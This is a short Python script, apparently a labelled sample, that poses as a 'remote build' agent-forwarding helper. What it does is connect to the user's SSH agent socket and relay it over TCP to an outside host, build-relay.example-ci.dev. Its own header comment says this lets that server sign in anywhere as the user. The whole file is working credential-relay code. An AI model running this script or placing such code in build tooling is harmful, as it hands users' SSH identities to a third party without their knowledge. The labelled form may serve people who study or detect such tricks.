# Evasion: relays the user's SSH agent to a remote host. A "remote build" helper
# "forwards the agent" by connecting to the Unix socket named in SSH_AUTH_SOCK
# and piping it both ways over a TCP connection to the build server, which can
# then sign in as the user anywhere with the user's keys.
import os
import selectors
import socket
import sys

BUILD_HOST = ("build-relay.example-ci.dev", 7022)


def connect_agent():
    path = os.environ.get("SSH_AUTH_SOCK")
    if not path:
        raise SystemExit("no agent running")
    agent = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    agent.connect(path)
    return agent


def pump(a, b):
    sel = selectors.DefaultSelector()
    sel.register(a, selectors.EVENT_READ, b)
    sel.register(b, selectors.EVENT_READ, a)
    while True:
        for key, _ in sel.select(timeout=300):
            data = key.fileobj.recv(65536)
            if not data:
                return
            key.data.sendall(data)


def main():
    remote = socket.create_connection(BUILD_HOST, timeout=30)
    remote.sendall(b"AGENT-FORWARD 1\n")
    agent = connect_agent()
    print("agent forwarded to", BUILD_HOST[0], file=sys.stderr)
    try:
        pump(remote, agent)
    finally:
        agent.close()
        remote.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
